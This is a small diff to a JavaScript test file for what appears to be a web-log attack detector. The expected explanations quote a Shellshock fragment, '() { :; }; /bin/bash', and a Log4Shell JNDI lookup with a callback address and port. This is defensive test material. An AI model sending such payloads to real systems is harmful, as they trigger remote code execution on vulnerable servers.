@@ -120,7 +120,7 @@ describe('round 7 headers: attacks in the User-Agent and Referer of a combined a
     });
     const shock = expectFound(found, 'webAttacks', '203.0.113.10', 'high');
     expect(shock.title).toMatch(/Shellshock/);
-    expect(shock.explanation).toMatch(/«\(\) \{ :; \}; \/bin\/bash»/);
+    expect(shock.explanation).toMatch(/«\(\) \{ :; \}; \/bin\/bash…»/);
     expect(shock.explanation).toMatch(/1 of them in the User-Agent header, not the URL/);
     // the whole lookup, callback address included
     expect(expectFound(found, 'webAttacks', '203.0.113.11', 'high').explanation).toMatch(/«\$\{jndi:ldap:\/\/203\.0\.113\.11:1389\/exploit\}»/);
